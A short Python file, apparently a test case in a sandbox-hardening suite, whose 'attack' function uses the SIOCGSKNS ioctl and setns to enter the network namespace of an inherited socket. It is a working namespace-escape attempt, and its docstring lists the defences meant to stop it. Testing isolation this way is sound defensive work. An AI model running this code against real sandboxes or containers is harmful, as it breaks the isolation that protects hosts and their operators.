"""Has its own wire open the network namespace that it was made in, so as to enter it.

stopped by: capabilities, seccomp, root, namespaces, pid namespace
as: root
"""

import ctypes
import fcntl
import os

SIOCGSKNS, CLONE_NEWNET = 0x894C, 0x40000000
libc = ctypes.CDLL(None, use_errno=True)


def attack(decoys):
    network = fcntl.ioctl(3, SIOCGSKNS)
    if libc.setns(network, CLONE_NEWNET) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return True
